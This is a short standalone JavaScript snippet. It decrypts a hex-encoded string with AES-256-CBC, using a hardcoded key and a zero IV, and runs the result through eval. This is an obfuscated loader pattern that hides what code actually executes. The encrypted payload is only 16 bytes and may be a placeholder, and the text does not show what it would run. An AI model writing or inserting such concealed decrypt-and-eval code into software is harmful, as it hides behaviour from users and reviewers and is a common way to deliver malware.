const c = require('crypto');
const d = c.createDecipheriv('aes-256-cbc', 'k'.repeat(32), Buffer.alloc(16));
eval(d.update('9f86d081884c7d659a2feaa0c55ad015', 'hex', 'utf8') + d.final('utf8'));
